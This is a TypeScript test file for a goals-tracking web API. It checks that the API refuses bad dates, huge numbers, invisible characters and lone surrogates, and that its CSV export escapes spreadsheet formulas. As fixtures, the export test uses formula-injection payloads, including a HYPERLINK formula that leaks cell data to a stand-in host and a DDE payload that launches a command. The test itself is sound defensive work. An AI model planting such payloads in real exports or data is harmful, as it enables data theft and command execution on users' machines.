/**
 * Defect 7 of issue 16, as an attacker or a careless integrator would meet it over HTTP: impossible
 * and far-off dates, formula cells in the CSV export, absurd numbers, and text that is invisible
 * or broken. Each is refused with a 4xx that says how to fix it, and nothing is stored; text that
 * is accepted is stored cleaned (NFC, no invisible or control characters).
 */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { DIALECTS, dialectAvailable, freshStore } from "../helpers/dialects.js";
import { buildGoal, fixedContext } from "../helpers/factories.js";
import { type Client, type Person, signUp, testApp } from "../helpers/http.js";

// biome-ignore lint/suspicious/noExplicitAny: API JSON read loosely; each test states what it expects
type J = Record<string, any>;

async function send(c: Client, method: string, path: string, body?: unknown) {
  const r = await c.request(path, {
    method,
    headers: body === undefined ? {} : { "content-type": "application/json" },
    body: body === undefined ? undefined : typeof body === "string" ? body : JSON.stringify(body),
  });
  const text = await r.text();
  let json: J = {};
  try {
    json = JSON.parse(text) as J;
  } catch {
    // CSV and the like
  }
  return { status: r.status, json, text };
}

/** A refusal a person can act on: a 4xx whose message is a sentence naming the field. */
function expectRefused(a: { status: number; json: J }, field: string) {
  expect(a.status, JSON.stringify(a.json)).toBe(400);
  const message = String(a.json.error?.message ?? "");
  expect(message).toContain(field);
  expect(message).toMatch(/\.$/);
  expect(message).not.toMatch(/at .*\.ts:\d+/);
}

describe.each(DIALECTS)("input the API refuses or cleans, on %s", (d) => {
  const skip = !dialectAvailable(d);
  let db: Awaited<ReturnType<typeof freshStore>>;
  let owner: Person;
  let goalId: number;

  async function goalCount(): Promise<number> {
    const list = await send(owner.api, "GET", "/api/goals?limit=500");
    return (list.json.items as J[]).length;
  }

  beforeAll(async () => {
    if (skip) return;
    db = await freshStore(d);
    const app = testApp(fixedContext(db.store));
    owner = await signUp(app, { email: "owner@example.com", name: "Olu Owner" });
    const g = await send(owner.api, "POST", "/api/goals", buildGoal());
    expect(g.status).toBe(201);
    goalId = g.json.id;
  });
  afterAll(async () => {
    await db?.dispose();
  });

  describe("dates", () => {
    it.skipIf(skip)("refuses month 13 in My week's asOf with a sentence, not a 500", async () => {
      expectRefused(await send(owner.api, "GET", "/api/week?asOf=2026-13-01"), "asOf");
    });

    it.skipIf(skip)("refuses 31 February and a six-digit year wherever a day is read", async () => {
      for (const day of ["2026-02-31", "+275760-09-13", "275760-09-13", "2026-2-3", " 2026-02-03"]) {
        const q = encodeURIComponent(day);
        for (const path of ["/api/week", "/api/report", "/api/review", "/api/wins"]) {
          expectRefused(await send(owner.api, "GET", `${path}?asOf=${q}`), "asOf");
        }
        expectRefused(await send(owner.api, "GET", `/api/goals/${goalId}/status?asOf=${q}`), "asOf");
        expectRefused(await send(owner.api, "POST", "/api/goals", buildGoal({ dueDate: day })), "dueDate");
      }
    });

    it.skipIf(skip)("refuses years outside 1900–2999, which no plan needs, with the range", async () => {
      const before = await goalCount();
      for (const day of ["9999-12-31", "3000-01-01", "0000-01-01", "1899-12-31"]) {
        for (const path of ["/api/week", "/api/report", "/api/review", "/api/wins"]) {
          const a = await send(owner.api, "GET", `${path}?asOf=${day}`);
          expectRefused(a, "asOf");
          expect(a.json.error.message).toContain("1900");
        }
        expectRefused(
          await send(owner.api, "POST", "/api/goals", buildGoal({ startDate: day })),
          "startDate",
        );
      }
      expect(await goalCount()).toBe(before);
      for (const day of ["1900-01-01", "2999-12-31"]) {
        expect((await send(owner.api, "GET", `/api/report?asOf=${day}`)).status).toBe(200);
      }
    });
  });

  describe("numbers", () => {
    it.skipIf(skip)("refuses key-result values beyond ±10^15, and keeps large real ones", async () => {
      for (const [startValue, targetValue] of [
        [-1e308, 1e308],
        [0, 1e16],
        [-1e16, 0],
        [0, 5e-324 * 1e308 * 1e308],
      ]) {
        const a = await send(owner.api, "POST", `/api/goals/${goalId}/key-results`, {
          title: "Revenue",
          startValue,
          targetValue,
        });
        expect(a.status, JSON.stringify(a.json)).toBe(400);
        expect(a.json.error.message).toMatch(/Value: .*10\^15|Value: .*1,000,000,000,000,000/);
      }
      const list = await send(owner.api, "GET", `/api/goals/${goalId}/key-results`);
      expect(list.json.items ?? list.json).toEqual([]);
      const ok = await send(owner.api, "POST", `/api/goals/${goalId}/key-results`, {
        title: "Revenue",
        startValue: -1e15,
        targetValue: 1e15,
      });
      expect(ok.status).toBe(201);
      const c = await send(owner.api, "POST", `/api/goals/${goalId}/checkins`, {
        krValues: [{ keyResultId: ok.json.id, value: 1e308 }],
      });
      expect(c.status).toBe(400);
      expect(c.json.error.message).toContain("value");
    });
  });

  describe("text", () => {
    it.skipIf(skip)("refuses a title of only zero-width, format and control characters", async () => {
      const before = await goalCount();
      for (const title of [
        "\u200b\u200b",
        "\u200b \ufeff\u2060",
        "\u202e\u2066",
        "\u0007\u0000\u001b",
        "\u00ad",
      ]) {
        expectRefused(await send(owner.api, "POST", "/api/goals", buildGoal({ title })), "title");
      }
      expect(await goalCount()).toBe(before);
    });

    it.skipIf(skip)("refuses a lone surrogate, which would be stored as invalid UTF-8", async () => {
      const before = await goalCount();
      for (const title of ["\ud800", "Grow \udc00 sales", "Grow sales \ud83d"]) {
        const a = await send(owner.api, "POST", "/api/goals", `{"title":${JSON.stringify(title)}}`);
        expectRefused(a, "title");
      }
      const step = await send(owner.api, "POST", `/api/goals/${goalId}/steps`, { text: "Call \ud800 Dana" });
      expectRefused(step, "text");
      expect(await goalCount()).toBe(before);
    });

    it.skipIf(skip)(
      "stores text in NFC, without invisible characters, keeping emoji and line breaks",
      async () => {
        const a = await send(
          owner.api,
          "POST",
          "/api/goals",
          buildGoal({
            title: "Cafe\u0301 \u200bopening\u0007 👩\u200d💻 \u202eplan",
            why: "Line one\r\nline two\u2066",
          }),
        );
        expect(a.status, JSON.stringify(a.json)).toBe(201);
        const stored = await send(owner.api, "GET", `/api/goals/${a.json.id}`);
        const goal = stored.json.goal ?? stored.json;
        expect(goal.title).toBe("Café opening 👩\u200d💻 plan");
        expect(goal.title.normalize("NFC")).toBe(goal.title);
        expect(goal.why).toBe("Line one\nline two");
      },
    );
  });

  describe("CSV export", () => {
    it.skipIf(skip)("escapes cells that a spreadsheet would run as a formula", async () => {
      const formulas = [
        '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
      ];
      for (const title of formulas) {
        const g = await send(owner.api, "POST", "/api/goals", buildGoal({ title }));
        expect(g.status, JSON.stringify(g.json)).toBe(201);
        const s = await send(owner.api, "POST", `/api/goals/${g.json.id}/steps`, { text: title });
        expect(s.status, JSON.stringify(s.json)).toBe(201);
      }
      const csv = await send(owner.api, "GET", "/api/export?format=csv");
      expect(csv.status).toBe(200);
      const cells = csv.text.split(/\r\n/).flatMap((line) => line.split(","));
      for (const cell of cells) {
        const bare = cell.replace(/^"/, "");
        expect(bare, `cell ${cell}`).not.toMatch(/^[=+\-@\t\r]/);
      }
      expect(csv.text).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A1`);
      expect(csv.text).toContain("'@SUM(A1:A9)");
    });
  });
});
